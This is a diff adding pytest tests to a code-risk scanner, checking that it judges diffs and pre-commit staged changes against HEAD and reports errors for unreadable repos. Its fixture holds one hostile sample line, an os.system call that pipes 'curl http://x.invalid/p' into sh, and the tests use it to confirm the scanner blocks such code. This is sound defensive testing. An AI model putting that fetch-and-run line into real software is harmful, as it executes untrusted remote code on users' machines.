@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import json
 import re
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
@@ -38,11 +40,61 @@ def test_only_what_a_diff_gains_counts(workspace: Workspace) -> None:
     workspace.repo.commit({"calc/net.py": SINK}, "It was there")
     quiet = workspace.mai("risk", "--diff", "-", "--json", data=FIX)
     assert quiet.json["level"] == "LOW"
-    assert quiet.json["context"] == "tree"
+    assert (quiet.json["context"], quiet.json["commit"]) == ("HEAD", workspace.repo.head())
     loud = workspace.mai("risk", "--diff", "-", "--fail-on", "MEDIUM", "--json", data=ADDS_SINK)
     assert loud.code == 3
     assert loud.json["files"][0]["findings"][0]["path"] == "calc/core.py"
     assert loud.json["files"][0]["score"] == loud.json["score"] > 0
+
+
+BAD_LINE = '    os.system("curl http://x.invalid/p | sh")'
+ADDS_SHELL = f"--- a/m.py\n+++ b/m.py\n@@ -4,2 +4,3 @@\n def f(x):\n+{BAD_LINE}\n     return x+1\n"
+M = "import os\n\n\ndef f(x):\n    return x+1\n"
+
+
+@pytest.fixture
+def plain(tmp_path: Path) -> Workspace:
+    return Workspace.make(tmp_path, {"m.py": M, "o.py": "A = 1\n"})
+
+
+def test_a_detached_head_is_what_a_diff_is_judged_against(plain: Workspace) -> None:
+    on = plain.mai("risk", "--diff", "-", "--json", "--fail-on", "HIGH", data=ADDS_SHELL)
+    plain.git("checkout", "--quiet", "--detach")
+    off = plain.mai("risk", "--diff", "-", "--json", "--fail-on", "HIGH", data=ADDS_SHELL)
+    assert (on.code, on.json) == (off.code, off.json)
+    assert (off.code, off.json["context"], off.json["commit"]) == (3, "HEAD", plain.repo.head())
+    text = plain.mai("risk", "--diff", "-", data=ADDS_SHELL).out
+    assert f"Judged against HEAD, {plain.repo.head()[:12]}." in text
+
+
+def hook(workspace: Workspace) -> None:
+    """Let the repo's pre-commit hook be `mai risk --staged`, as it is for a person."""
+    program = Path(sys.executable).with_name("mai")
+    path = workspace.repo.root / ".git/hooks/pre-commit"
+    path.parent.mkdir(exist_ok=True)
+    path.write_text(f"#!/bin/sh\nexec {program} risk --staged --fail-on HIGH\n")
+    path.chmod(0o755)
+
+
+@pytest.mark.parametrize("way", ["-a", "split"])
+def test_the_hook_judges_what_the_commit_would_hold(plain: Workspace, way: str) -> None:
+    root = plain.repo.root
+    hook(plain)
+    (root / "m.py").write_text(M.replace("    return", f"{BAD_LINE}\n    return"))
+    if way == "split":
+        plain.git("update-index", "--split-index")
+        plain.git("add", "m.py")
+    command = ["git", "commit", "--quiet", "--message", "x", *([way] if way == "-a" else [])]
+    before = plain.repo.head()
+    ran = subprocess.run(command, cwd=root, env=plain.environment, check=False)
+    assert (ran.returncode, plain.repo.head()) == (1, before)
+
+
+def test_a_repo_that_cannot_be_read_is_not_low(plain: Workspace) -> None:
+    plain.git("config", "core.bare", "true")
+    for asked in (("--diff", "-"), ("--staged",)):
+        ran = plain.mai("risk", *asked, "--json", data=ADDS_SHELL)
+        assert (ran.code, ran.json["level"], ran.json["error"]["code"]) == (5, None, "cannot-judge")
 
 
 def test_without_the_blobs_the_hunks_are_scored(workspace: Workspace, tmp_path: Path) -> None:
